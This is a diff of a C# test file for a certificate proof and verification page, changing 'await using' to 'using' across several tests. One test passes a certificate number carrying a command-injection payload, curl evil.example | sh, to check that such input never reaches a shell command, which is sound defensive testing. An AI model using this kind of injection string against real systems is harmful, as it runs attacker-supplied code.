@@ -23,7 +23,7 @@ public sealed partial class ProofPageTests
     [Theory, MemberData(nameof(States))]
     public async Task It_says_at_once_whether_the_certificate_counts(string state, string more, string[] words)
     {
-        await using var site = await ShowingAsync(state, more);
+        using var site = await ShowingAsync(state, more);
 
         var html = await site.PageAsync($"/certificates/{Number}");
 
@@ -36,7 +36,7 @@ public sealed partial class ProofPageTests
     [Fact]
     public async Task It_is_never_kept_and_needs_no_script()
     {
-        await using var site = await ShowingAsync("valid");
+        using var site = await ShowingAsync("valid");
 
         using var answer = await site.Browser.GetAsync($"/certificates/{Number}", TestContext.Current.CancellationToken);
 
@@ -47,7 +47,7 @@ public sealed partial class ProofPageTests
     [Fact]
     public async Task With_its_styles_it_weighs_at_most_thirty_kilobytes()
     {
-        await using var site = await ShowingAsync("valid");
+        using var site = await ShowingAsync("valid");
         var html = await site.PageAsync($"/certificates/{Number}");
         long weight = Compressed(Encoding.UTF8.GetBytes(html));
         foreach (var asset in Loaded().Matches(html).Select(match => match.Groups[1].Value).Distinct())
@@ -65,10 +65,10 @@ public sealed partial class ProofPageTests
     [Fact]
     public async Task One_that_was_issued_before_the_platform_signed_offers_no_file_and_says_why()
     {
-        await using var signed = await ShowingAsync("valid", $$""","signedFile":"/api/representative-offices/public/certificates/{{Number}}/signed" """);
+        using var signed = await ShowingAsync("valid", $$""","signedFile":"/api/representative-offices/public/certificates/{{Number}}/signed" """);
         Assert.Contains($"href=\"/api/representative-offices/public/certificates/{Number}/signed\" download", await signed.PageAsync($"/certificates/{Number}"), StringComparison.Ordinal);
 
-        await using var unsigned = await ShowingAsync("valid");
+        using var unsigned = await ShowingAsync("valid");
         var html = await unsigned.PageAsync($"/certificates/{Number}");
         Assert.Contains("id=\"not-signed\"", html, StringComparison.Ordinal);
         Assert.DoesNotContain("id=\"signed-file\"", html, StringComparison.Ordinal);
@@ -79,7 +79,7 @@ public sealed partial class ProofPageTests
     [InlineData("en")]
     public async Task How_to_verify_without_us_stands_on_a_page_of_its_own(string language)
     {
-        await using var site = await Site.ApplicantAsync(language: language);
+        using var site = await Site.ApplicantAsync(language: language);
         site.SignOut();
 
         var html = await site.PageAsync($"/certificates/verify?number={Number}");
@@ -93,7 +93,7 @@ public sealed partial class ProofPageTests
     [Fact]
     public async Task What_is_no_number_gets_into_no_command()
     {
-        await using var site = await Site.ApplicantAsync();
+        using var site = await Site.ApplicantAsync();
 
         var html = await site.PageAsync($"/certificates/verify?number={Uri.EscapeDataString("X\"; curl evil.example | sh; \"")}");
 
